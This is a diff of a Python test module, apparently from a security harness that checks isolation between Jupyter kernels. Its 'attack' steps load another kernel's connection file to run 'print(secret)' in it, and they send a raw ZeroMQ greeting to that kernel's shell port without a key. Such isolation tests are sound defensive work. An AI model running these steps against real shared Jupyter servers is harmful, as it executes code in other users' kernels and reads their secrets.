@@ -1,9 +1,30 @@
-"""J2: connects to the shell port of another kernel"""
+"""J2: runs code in the kernel of somebody else"""
 from kit import *
+
+# With the key of its connection file, as any front end does.
+CODE = """
+import json, sys
+from jupyter_client import BlockingKernelClient
+client = BlockingKernelClient()
+client.load_connection_info(json.load(open(sys.argv[1])))
+client.start_channels()
+client.wait_for_ready(timeout=30)
+client.execute_interactive("print(secret)", timeout=30)
+"""
+# RFC 23/ZMTP 3.1, the greeting: signature, version, mechanism NULL.
+GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)
+
+
+def greeted(w):
+    answer = connect("127.0.0.1", w.kernel["shell_port"], GREETING)
+    if not answer.startswith(b"\xff"):
+        raise RuntimeError(f"no ZeroMQ socket: {answer!r}")
+    return "greeted"
 
 
 def attack(w):
-    yield "connect", lambda: connect("127.0.0.1", w.tcp, b"\xff\0\0\0\0\0\0\0\x01\x7f" + w.token)
+    yield "with its key", lambda: run(sys.executable, "-c", CODE, w.kernel["file"])
+    yield "its port, without a key", lambda: greeted(w)
 
 
 def twin(w):
